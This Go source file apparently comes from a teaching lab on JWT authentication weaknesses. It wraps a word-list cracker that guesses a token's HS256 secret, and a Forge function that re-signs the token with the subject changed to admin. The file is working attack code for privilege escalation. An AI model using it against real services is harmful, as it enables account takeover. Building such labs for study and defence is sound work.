package attack

import (
	"context"
	"fmt"

	"github.com/authlab/authlab/app/attack/crack"
	"github.com/authlab/authlab/app/jot"
)

// Errors of Crack, which are package crack's.
var (
	ErrNotHMAC  = crack.ErrNotHMAC
	ErrNotFound = crack.ErrNotFound
)

// Words returns the cracker's word list: each non-empty line of extra,
// then the well-known demo secrets, without repeats (crack.Words).
func Words(extra string) []string { return crack.Words(extra, jot.KnownWeakSecrets()) }

// Crack tries each word as the HMAC secret of token and returns the one
// that makes its signature: it is crack.Crack, the loop that the lab's
// Web Worker runs.
func Crack(ctx context.Context, token string, words []string, progress func(tried int)) (string, error) {
	return crack.Crack(ctx, token, words, progress)
}

// Forge re-signs a cracked token with its secret, sub changed to admin.
func Forge(token, secret string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	if v.header["alg"] != "HS256" {
		return Attack{}, fmt.Errorf("%w: alg is %v", ErrNotHMAC, v.header["alg"])
	}
	tok, err := SignHS256(v.header, v.escalated(), []byte(secret))
	return Attack{Name: "weak-secret", Label: "cracked secret", Token: tok,
		How: fmt.Sprintf("The secret %q found by trying a word list, and the token signed again with sub changed to admin.", secret)}, err
}
